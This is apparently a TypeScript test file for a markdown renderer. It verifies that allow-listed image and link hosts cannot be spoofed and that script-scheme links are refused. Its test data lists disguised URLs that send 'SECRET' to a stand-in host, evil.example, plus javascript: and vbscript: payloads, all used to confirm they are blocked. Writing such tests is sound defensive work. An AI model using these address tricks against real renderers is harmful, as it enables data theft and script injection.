import { describe, expect, test, vi } from 'vitest'
import type { RenderOptions } from '../src/options.ts'
import { document, renderPieces } from './support/dom.ts'

const GOOD = 'https://img.good.example'

/** What leaves the page's own origin in a rendered text: the hosts of its images and links, as a browser reads them. */
function hosts(markdown: string, options: RenderOptions): string[] {
  const root = renderPieces([markdown], options)
  const addresses = [...root.querySelectorAll('[src], [href]')].map(
    (element) => element.getAttribute('src') ?? element.getAttribute('href')!,
  )
  return addresses.map((address) => new URL(address, 'https://page.example').host)
}

/** Each address has the allowed host at its beginning for a reader, and another one for a browser. */
const disguised = [
  `${GOOD}\\\\@evil.example/steal?q=SECRET`,
  `${GOOD}&bsol;@evil.example/steal?q=SECRET`,
  `${GOOD}&#92;@evil.example/`,
  `${GOOD}@evil.example/`,
  `${GOOD}:443@evil.example/`,
  'https://user:password@img.good.example/',
  '//img.good.example\\\\@evil.example/',
  '//img.good.example@evil.example/',
  'https:img.good.example@evil.example/',
  'https:/img.good.example@evil.example/',
  'https:\\\\\\\\img.good.example@evil.example/',
]
const spellings = disguised.flatMap((address) => [
  `![x](${address})`,
  `![x](<${address}>)`,
  `![x][r]\n\n[r]: ${address}\n`,
  `[x](${address})`,
  `[x][r]\n\n[r]: <${address}>\n`,
])

describe('the address that is checked is the address that is used', () => {
  const byFunction = (url: string): boolean => url.startsWith(GOOD)
  const byHost = (url: string): boolean => new URL(url).host === 'img.good.example'

  test.each(spellings)('%j', (markdown) => {
    const all: RenderOptions[] = [
      { images: [GOOD], allowLink: byFunction },
      { images: (url) => (byFunction(url) ? url : null), allowLink: byHost },
      { images: (url) => (byHost(url) ? url : null) },
      { images: (url) => url },
    ]
    for (const options of all) {
      expect(hosts(markdown, { ...options, onError: () => {} })).not.toContain('evil.example')
    }
  })

  test('an address with a user name leads nowhere, and loads nothing', () => {
    const root = renderPieces([`![i](https://u@a.example) [l](https://u:p@a.example) https://u@a.example`], {
      images: (url) => url,
    })
    expect(root.querySelectorAll('[href], [src]')).toHaveLength(0)
    expect(root.textContent).toBe('i l https://u@a.example')
  })

  test('both hooks get the very string that goes into the document', () => {
    const seen: string[] = []
    const root = renderPieces(['[a](/x\\\\y&auml;) ![b](https://a.example/ö "t")'], {
      allowLink: (url) => seen.push(url) > 0,
      images: (url) => (seen.push(url) > 0 ? url : null),
    })
    const [link, image] = [root.querySelector('a')!, root.querySelector('img')!]
    expect(link.getAttribute('href')).toBe('/x%5Cy%C3%A4')
    expect(image.getAttribute('src')).toBe('https://a.example/%C3%B6')
    expect(new Set(seen)).toEqual(new Set([link.getAttribute('href'), image.getAttribute('src')]))
  })
})

describe('`allowLink` and `linkSchemes` must agree', () => {
  test.each(['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'vbscript:x', 'data:text/html,x'])(
    '%s is refused, whatever `allowLink` says',
    (address) => {
      const html = renderPieces([`[x](${address})`], { allowLink: (url) => !url.includes('evil') }).innerHTML
      expect(html).not.toContain('href')
    },
  )
  test('a scheme that is named is allowed, if `allowLink` agrees', () => {
    const options: RenderOptions = { linkSchemes: ['irc'], allowLink: (url) => url.endsWith('ok') }
    expect(renderPieces(['[x](irc:ok) [y](irc:no)'], options).querySelectorAll('[href]')).toHaveLength(1)
  })
})

describe('an option that throws', () => {
  const boom = (): never => {
    throw new Error('boom')
  }
  test('counts as no, is reported once, and the rest goes on', () => {
    const onError = vi.fn()
    const root = renderPieces('[a](docs/intro.md) [b](/b) ![i](x.png)\n\n```js\ncode\n```\n\nend', {
      allowLink: boom,
      images: boom,
      overrides: { codeBlock: boom },
      onError,
    })
    expect(root.innerHTML.replace(/ dir="[a-z]+"/g, '')).toBe(
      '<p><a>a</a> <a>b</a> i</p><pre><code class="language-js">code\n</code></pre><p>end</p>',
    )
    expect(onError.mock.calls.map(([error, { option }]) => [String(error), option])).toEqual([
      ['Error: boom', 'allowLink'],
      ['Error: boom', 'images'],
      ['Error: boom', 'overrides.codeBlock'],
    ])
  })

  test('also when it throws later, or when reporting throws', () => {
    const element = document.createElement('div')
    const root = renderPieces('[a](/b) end', {
      overrides: { link: (content) => ({ element: wrap(element, content), update: boom }) },
      onError: boom,
    })
    expect(root.textContent).toBe('a end')
  })
})

function wrap(element: HTMLElement, content: HTMLElement): HTMLElement {
  element.append(content)
  return element
}
